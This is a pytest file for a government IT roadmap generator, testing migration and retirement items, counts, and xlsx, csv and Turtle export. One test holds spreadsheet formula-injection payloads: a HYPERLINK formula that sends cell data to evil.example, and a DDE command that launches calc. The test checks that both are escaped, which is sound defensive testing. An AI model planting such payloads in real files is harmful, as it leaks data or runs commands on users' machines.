"""The roadmap from confirmed decisions: actions, dependency, years in the period, edits, before/after
counts, one agency; the outputs (xlsx sheets per domain with frozen header and filters and no formula
from data, csv, Turtle) and the roadmap graph conforming to the shapes."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from spbe_kg.queries.recommend import SAME_FUNCTION
from spbe_kg.roadmap import writers
from spbe_kg.roadmap.decide import DecisionRequest, decide
from spbe_kg.roadmap.plan import Roadmap, RoadmapItem, build_roadmap
from spbe_kg.roadmap.resolve import analyse_with_decisions as analyse


@pytest.fixture
def planned(store, settings):
    """The example with the SIMPEG and e-Office "same job" clusters confirmed."""
    rep = analyse(store, settings)
    chosen = [c for c in rep.clusters if c.kind == SAME_FUNCTION
              and any(k in " ".join(m.record.name for m in c.members) for k in ("SIMPEG", "eOffice"))]
    assert len(chosen) >= 2
    for c in chosen:
        decide(store, settings, DecisionRequest("konfirmasi-klaster", clusters=[c.id]), report=rep)
    return store, settings, chosen


def test_no_confirmed_cluster_no_items(store, settings):
    rm = build_roadmap(store, settings)
    assert rm.items == [] and rm.n_confirmed == 0
    assert all(b == a for _, _, b, a in rm.counts) and rm.counts


def test_actions_dependencies_and_years(planned):
    store, settings, chosen = planned
    rm = build_roadmap(store, settings)
    assert rm.n_confirmed == len(chosen)
    by_id = {it.id: it for it in rm.items}
    migrations = [it for it in rm.items if it.action.startswith("migrasi")]
    retires = [it for it in rm.items if it.action == "hentikan" and it.depends_on]
    assert migrations and len(retires) == len(migrations)
    for it in retires:
        dep = by_id[it.depends_on]
        assert dep.action.startswith("migrasi") and dep.apps == it.apps and it.year > dep.year
    for it in rm.items:
        assert 2025 <= it.year <= 2029 and it.owner[1] and it.cluster in {c.id for c in chosen}
        if it.action.startswith("migrasi"):
            assert it.target and it.target[0]
    # SIMPEG -> SIASN, a national Aplikasi Umum: "migrate to an Aplikasi Umum"
    assert any(it.action == "migrasi-aplikasi-umum" and it.target[1] == "SIASN" for it in rm.items)
    assert writers.problems_text(rm, "en") == []


def test_before_after_counts_fewer_after_the_plan(planned):
    store, settings, _ = planned
    rm = build_roadmap(store, settings)
    fewer = {code: b - a for code, _, b, a in rm.counts}
    retired = {a for it in rm.items if it.action == "hentikan" for a, _ in it.apps}
    assert sum(fewer.values()) > 0 and fewer["RAL.02.04.03"] > 0
    assert all(a <= b for _, _, b, a in rm.counts)
    assert len(retired) >= max(fewer.values())


def test_edit_that_breaks_the_order_is_reported(planned):
    store, settings, _ = planned
    rm = build_roadmap(store, settings)
    ret = next(it for it in rm.items if it.action == "hentikan" and it.depends_on)
    decide(store, settings, DecisionRequest("ubah-rencana", item=ret.id, year=2025))
    rm2 = build_roadmap(store, settings)
    probs = writers.problems_text(rm2, "id")
    assert len(probs) == 1 and ret.id in probs[0]


def test_one_agency(planned):
    store, settings, _ = planned
    rm = build_roadmap(store, settings, instansi="Pemerintah Kota Medan")
    assert rm.items and all("Medan" in (it.instansi[1] or "") or len(it.apps) > 1 for it in rm.items)
    full = build_roadmap(store, settings)
    assert len(rm.items) < len(full.items)


def test_xlsx_one_sheet_per_domain_frozen_filters(planned):
    store, settings, _ = planned
    rm = build_roadmap(store, settings)
    wb = load_workbook(io.BytesIO(writers.to_xlsx(rm, "id")))
    domains = rm.by_domain()
    assert wb.sheetnames[0] == "Ringkasan" and len(wb.sheetnames) == 1 + len(domains)
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2" and ws.auto_filter.ref
    first = wb.worksheets[1]
    assert first.cell(1, 1).value == "ID butir" and first.max_row == 1 + len(next(iter(domains.values())))


def _item(name):
    return RoadmapItem("r-1", "hentikan", "a-1", "x", [("http://x/a", name)], None, ("http://x/o", "@OPD"),
                       (None, "-Pemda"), 2026, codes=["RAL.02.04.03"], domain="RAL.02.04")


def test_no_formula_from_data_in_xlsx_and_csv():
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    rm = Roadmap([_item(evil)], 2025, 2029, None, [("RAL.02.04.03", "+cmd|' /C calc'!A0", 3, 2)], {"RAL.02.04": "Aparatur"})
    wb = load_workbook(io.BytesIO(writers.to_xlsx(rm, "en")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + evil in texts and "'@OPD" in texts and "'-Pemda" in texts and "'+cmd|' /C calc'!A0" in texts
    rows = list(csv.reader(io.StringIO(writers.to_csv(rm, "en"))))
    assert rows[1][3] == "'" + evil and rows[1][5] == "'@OPD"


def test_turtle_and_the_roadmap_graph_conform(planned):
    import pyoxigraph as ox

    from spbe_kg.roadmap.graphs import write_roadmap
    from spbe_kg.shapes.validate import validate_store

    store, settings, _ = planned
    rm = build_roadmap(store, settings)
    ttl = writers.to_turtle(rm, settings)
    triples = list(ox.parse(ttl.encode(), format=ox.RdfFormat.TURTLE))
    assert sum(1 for t in triples if t.object == ox.NamedNode("https://w3id.org/spbe/ontology#ButirPetaRencana")) == len(rm.items)
    n = write_roadmap(store, rm, settings)
    assert n == len(triples)
    report = validate_store(store, settings=settings)
    mine = [r for r in report.results if "/shapes/keputusan#" in r.rule_id and r.severity == "Violation"]
    assert mine == []
    # an edit that retires before migrating is reported by the rules like any other finding
    ret = next(it for it in rm.items if it.action == "hentikan" and it.depends_on)
    decide(store, settings, DecisionRequest("ubah-rencana", item=ret.id, year=2025))
    write_roadmap(store, build_roadmap(store, settings), settings)
    report = validate_store(store, settings=settings)
    hits = [r for r in report.results if r.rule_id.endswith("keputusan#HentikanSetelahMigrasi")]
    assert [r.focus.rsplit("/", 1)[-1].strip(">") for r in hits] == [ret.id] and not report.conforms
